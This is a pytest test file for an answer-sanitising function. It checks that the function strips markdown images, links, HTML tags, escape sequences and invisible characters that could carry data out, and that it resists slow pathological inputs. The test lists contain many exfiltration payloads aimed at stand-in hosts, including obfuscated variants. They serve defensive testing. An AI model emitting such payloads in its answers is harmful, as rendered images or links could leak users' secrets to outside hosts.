"""What is removed from answers."""

from __future__ import annotations

import re

import pytest

from harness.gates.answers import clean_answer

KNOWN = "https://shop.example/?order=12"


def clean(text: str) -> str:
    return clean_answer(text, lambda url: url == KNOWN)[0]


@pytest.mark.parametrize(
    "text",
    [
        "A [page](https://docs.example/re.html).",
        f"Your [order]({KNOWN}).",
        "`a < b` and 3 // 2",
        "Zwölf Grüße 👩\u200d👧 ok",
        "1. one\n\t- two",
        "<b>bold</b><br>x<sup>2</sup> `Vec<u8>` <https://docs.example/> a<b",
        "![chart](out/chart.png) [more](docs/a.md#part) [mail](mailto:help@shop.example)",
        "`handlers[0](event, state)` and `let x: [u8; 4]: Sized`",
        "`vec![1]` and `cp <source> <target>` and `std::vector<std::string>`",
        "[1]: docs/a.md",
    ],
)
def test_ordinary_answers_stay(text: str) -> None:
    assert clean(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a\x1b[31mb\x1b]0;title\x07c", "abc"),
        ("a\u202eb\u200bc\U000e0041", "abc"),
        ("![x](https://bad.example/p.png)", "[image of bad.example removed: x]"),
        ("[x](https://bad.example/?q=key)", "x [link to bad.example removed]"),
        ("see https://bad.example/?q=key.", "see [link to bad.example removed]."),
        ("[a]: https://bad.example/?q=key", "[a]: [link to bad.example removed]"),
        ('<img src="https://bad.example/?q=1">', '< img src="[link to bad.example removed]">'),
        (
            "![x](//bad.example/p.png 't')[y](//bad.example/?q=key)",
            "[image of bad.example removed: x]y [link to bad.example removed]",
        ),
        ("www.bad.example/?q=key", "[link to www.bad.example removed]"),
        (f"https://bad.example/{'k' * 80}", "[link to bad.example removed]"),
        (f"https://{'k' * 40}.bad.example/", f"[link to {'k' * 40}.bad.example removed]"),
    ],
)
def test_what_does_harm_is_removed(text: str, expected: str) -> None:
    assert clean(text) == expected


TAGS = (
    '<img src="https://e.example/SECRET" <b>',
    f"<img alt='{'a' * 5_000}' src=//e/?d=S>",
    "<input type=image src=//e/?d=S>",
    '<p style="background:url(//e/?d=S)">',
    "<table background=//e/?d=S>",
    "<IMG/SRC=//e/?d=S>",
    "<img\nsrc=//e/?d=S>",
    "<img\x00 src=//e/?d=S",
    "<b/style=background:url(//e/?d=S)>",
    "<https://e/style=background:url(//e/?d=S)>",
    "<style>@import '//e/?d=S'</style>",
    "<x-y style='background:url(//e/?d=S)'>",
    "```\n<img src=//e/?d=S>\n```",
    "<!--><img src=//e/?d=S>-->",
    "<<img src=//e/?d=S>>",
    "<\u200bimg src=//e/?d=S>",
)
IMAGES = (
    "![a[b]](//e/?d=S)",
    "![a](//e/?d=S (t))",
    "![a](https:/e/?d=S)",
    "![a](\\\\e/?d=S)",
    "![a](/\\e/?d=S)",
    "![a](&#47;/e/?d=S)",
    "![a](\\/\\/e/?d=S)",
    "![a](</\t/e/?d=S>)",
    "![a](\n//e/?d=S)",
    "![a](data:image/svg+xml,x)",
    "![a][b]\n\n> [b]:\n> //e/?d=S",
    "![b]\n\n- [b]: /a\n- [b]: \\\\e/?d=S",
    "![a ![b](c.png) ](//e/?d=S)",
    "![x](//e)(//f/?d=S)",
)
LINKS = (
    "[a[b]](//e/?d=S)",
    "[a](https:/e/?d=S)",
    "[a](https:e/?d=S)",
    "[a](\\\\e/?d=S)",
    "[a](/&#x2f;e/?d=S)",
    "[a](h&#116;tps://e/?d=S)",
    "[a](https&colon;//e/?d=S)",
    "[a](\thttps://e/?d=S)",
    "[a](//e/?d=S (t))",
    f"[a](//e/?d={'S' * 5_000})",
    "[a](ftp://e/?d=S)",
    "[a](mailto:m@e?body=S)",
    "[a](javascript:x)",
    "[a\nb](\n\n//e/?d=S)",
    "[![a](b.png)](//e/?d=S)",
    "[x](//e)(//f/?d=S)",
    "[x](//e/?d=S)](//f/?d=S)",
)


@pytest.mark.parametrize("text", TAGS)
def test_no_tag_with_attributes_is_left(text: str) -> None:
    assert not re.search(r"<[a-zA-Z/!?][^>]*[\s/=<]|<style|<!", clean(text)), clean(text)


@pytest.mark.parametrize("text", IMAGES)
def test_no_image_of_elsewhere_is_left(text: str) -> None:
    cleaned = clean(text).replace("![b](c.png)", "")
    assert not re.search(r"!\[", cleaned), cleaned
    assert "images" in clean_answer(text, lambda _: False)[1]


@pytest.mark.parametrize("text", LINKS)
def test_no_other_spelling_of_a_link_carries_data(text: str) -> None:
    cleaned = clean(text).replace("![a](b.png)", "")
    assert "](" not in cleaned, cleaned


@pytest.mark.parametrize("text", (*TAGS, *IMAGES, *LINKS))
def test_cleaning_twice_changes_nothing_more(text: str) -> None:
    once = clean(text)
    assert clean(once) == once


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000,
        "![a](" * 4_000,
        "<img " * 4_000,
        "\x1b]" * 10_000,
        "https://" * 4_000,
        ("[x](//" + "a" * 3_990 + ' "') * 8,
        ("[a]: //" + "a" * 4_990 + "\n") * 6,
        "](" * 16_000,
        "](a" * 10_000,
        "](//a(b)" * 4_000,
        "[x](//a([x](//b(" * 2_000,
        "![" * 16_000 + "](a)",
        "]:" * 16_000,
        "](" + " " * 32_000,
        "](\n" * 10_000,
        "<" * 32_000,
        "<a" * 16_000,
        "<https://" * 3_500,
        "[" + "a" * 32_000,
        "www." * 8_000,
        "<a " + "b" * 32_000,
        "[a]:\n" * 6_000,
    ],
    ids=lambda text: text[:12],
)
def test_hostile_answers_take_linear_time(text: str) -> None:
    """The test's own budget of CPU time catches what is worse than linear."""
    clean(text)
